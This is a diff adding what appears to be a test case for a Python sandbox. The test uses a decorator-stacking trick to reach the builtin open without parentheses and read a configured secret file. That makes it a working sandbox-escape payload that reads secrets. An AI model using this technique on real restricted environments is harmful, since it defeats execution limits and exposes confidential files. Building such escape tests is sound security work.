@@ -1,0 +1,14 @@
+# expect: done
+# idea: call functions without parentheses by decorating a class with them
+reader = print.__self__.open
+path = ctx.config["secret_file"]
+try:
+    @print
+    @"ESCAPED: read {}".format
+    @[*map(str, ())].__class__
+    @reader
+    @lambda _: path
+    class Nothing:
+        pass
+except Exception as error:
+    print("refused:", error)
